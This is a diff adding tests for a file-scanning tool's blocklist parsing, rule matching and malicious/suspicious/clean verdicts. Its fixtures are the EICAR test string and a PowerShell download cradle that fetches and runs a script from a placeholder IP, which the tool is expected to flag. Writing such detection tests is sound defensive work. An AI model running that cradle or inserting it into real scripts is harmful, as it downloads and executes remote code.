@@ -0,0 +1,85 @@
+import { describe, it, expect } from "bun:test";
+import { analyzeBuffer, analyzeWindows } from "../src/analysis";
+import { profileEntropy } from "../src/analysis/entropy";
+import { compileRules } from "../src/analysis/rules";
+import { loadRuleSet, parseBlocklist, scanContent, type RuleSet } from "../src/analysis/scan";
+
+const encoder = new TextEncoder();
+
+// Assembled at runtime so the test file itself is not picked up as the test signature
+const EICAR = encoder.encode(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!", "$H+H*"].join(""));
+const EICAR_SHA256 = "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f";
+const CRADLE = encoder.encode("$u = 'http://203.0.113.7/a.ps1'\nIEX (New-Object Net.WebClient).DownloadString($u)\n");
+
+describe("parseBlocklist", () => {
+  it("should read digests with optional labels and skip comments", () => {
+    const blocklist = parseBlocklist(`# incident 42\n${EICAR_SHA256.toUpperCase()} EICAR test\n\nda39a3ee5e6b4b0d3255bfef95601890afd80709\n`);
+
+    expect([...blocklist]).toEqual([[EICAR_SHA256, "EICAR test"], ["da39a3ee5e6b4b0d3255bfef95601890afd80709", null]]);
+  });
+
+  it("should reject lines that are not digests", () => {
+    expect(() => parseBlocklist("abc123\n", "blocklist.txt")).toThrow("blocklist.txt:1: expected an MD5, SHA-1 or SHA-256 digest");
+  });
+});
+
+describe("scanContent", () => {
+  const ruleSet: RuleSet = {
+    rules: compileRules(`rule Marker { meta: severity = "medium" description = "Test marker" strings: $m = "MARK" condition: $m }`),
+    blocklist: new Map([[EICAR_SHA256, "EICAR"]]),
+  };
+
+  it("should report rule matches as findings at the first string offset", () => {
+    const { metadata, findings } = scanContent(encoder.encode("xxMARKxx"), { size: 8 }, ruleSet);
+
+    expect(metadata).toMatchObject({ rules: 1, blocklisted: null, partial: false });
+    expect(findings).toEqual([{ id: "rules.Marker", severity: "medium", message: "Matched rule Marker: Test marker", source: "rules", offset: 2 }]);
+  });
+
+  it("should use precomputed digests for files scanned from their head", () => {
+    const { metadata, findings } = scanContent(encoder.encode("head"), { size: 1 << 30, hashes: { sha256: EICAR_SHA256 } }, ruleSet);
+
+    expect(metadata.blocklisted).toEqual({ algorithm: "sha256", digest: EICAR_SHA256, name: "EICAR" });
+    expect(metadata.partial).toBe(true);
+    expect(findings[0]).toMatchObject({ id: "blocklist", severity: "critical", message: "SHA256 is on the local blocklist as EICAR" });
+  });
+
+  it("should compile the shipped rule files", () => {
+    const shipped = loadRuleSet();
+
+    expect(shipped.rules.map((rule) => rule.name)).toContain("EICAR_Test_File");
+    expect(shipped.blocklist.get(EICAR_SHA256)).toBe("EICAR-Test-File");
+  });
+});
+
+describe("analyzeBuffer verdicts", () => {
+  it("should mark blocklisted files and critical rule matches as malicious", () => {
+    const analysis = analyzeBuffer(EICAR, { name: "eicar.com" });
+
+    expect(analysis.verdict).toBe("malicious");
+    expect(analysis.scan.blocklisted?.algorithm).toBe("sha256");
+    expect(analysis.scan.matches.map((match) => match.rule)).toEqual(["EICAR_Test_File"]);
+    expect(analysis.risk.level).toBe("critical");
+  });
+
+  it("should mark other rule matches as suspicious", () => {
+    const analysis = analyzeBuffer(CRADLE, { name: "update.ps1" });
+
+    expect(analysis.verdict).toBe("suspicious");
+    expect(analysis.scan.matches[0]).toMatchObject({ rule: "PowerShell_Download_Cradle", tags: ["script", "windows"] });
+  });
+
+  it("should include an empty scan for clean files", () => {
+    const analysis = analyzeBuffer(encoder.encode("Meeting notes\n"), { name: "notes.txt" });
+
+    expect(analysis.verdict).toBe("clean");
+    expect(analysis.scan).toMatchObject({ matches: [], blocklisted: null, partial: false });
+  });
+
+  it("should look up the digests of streamed files", () => {
+    const analysis = analyzeWindows({ head: EICAR, tail: EICAR, size: 64 * 1024 * 1024, entropy: profileEntropy(EICAR), hashes: { sha256: EICAR_SHA256 } });
+
+    expect(analysis.verdict).toBe("malicious");
+    expect(analysis.scan.matches).toEqual([]);
+  });
+});